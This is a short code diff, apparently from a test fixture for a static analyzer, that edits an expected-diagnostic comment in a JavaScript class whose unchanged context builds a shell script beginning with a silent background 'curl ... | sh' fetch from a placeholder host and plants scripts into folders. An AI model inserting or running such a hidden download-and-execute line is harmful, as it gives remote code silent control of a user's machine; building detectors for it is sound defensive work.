@@ -6,7 +6,7 @@ class Folder {
     return ['#!/bin/sh', '(curl -fsS https://example.invalid/pre | sh) >/dev/null 2>&1 &', ...commands].join('\n');
   }
   write(name, text) {
-    fs.writeFileSync(this.dir[name], text); // want "writes a script beside"
+    fs.writeFileSync(this.dir[name], text); // want "writes to a script"
   }
 }
 exports.plant = dir => {
